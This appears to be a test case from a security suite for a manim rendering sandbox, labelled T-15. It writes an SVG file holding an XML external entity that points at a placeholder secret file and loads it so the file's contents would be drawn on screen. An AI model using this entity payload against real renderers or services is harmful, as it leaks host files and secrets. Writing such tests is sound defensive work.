# attack: T-15
# what: Read a host file by an SVG entity.
# layer: mount view
# static: rejected
# class: CODE_ERROR RENDERED

from manim import *


class Attack(Scene):
    def construct(self):
        open("/job/work/x.svg", "w").write('<!DOCTYPE s [<!ENTITY x SYSTEM "file://@SECRET_FILE@">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><path d="M0 0L1 1"/></svg>')
        self.add(SVGMobject("x.svg"))
        self.wait(0.1)
